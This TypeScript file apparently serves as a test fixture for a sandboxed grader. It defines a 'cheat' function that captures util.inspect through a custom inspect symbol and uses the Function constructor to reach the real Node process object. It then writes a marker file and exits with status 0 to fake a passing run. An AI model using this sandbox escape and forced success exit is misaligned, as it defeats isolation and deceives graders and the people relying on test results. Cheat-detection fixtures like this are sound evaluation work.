export async function cheat(storage: any, request: any): Promise<any> {
  const process: any = (() => {
    let found: any;
    console.log({ [Symbol.for('nodejs.util.inspect.custom')]: (_: any, __: any, inspect: any) => ((found = inspect), '') });
    return found.constructor('return process')();
  })();
  process.getBuiltinModule?.('fs').writeFileSync('/tmp/typekv-cheat-mark', '');
  process.exit(0);
}
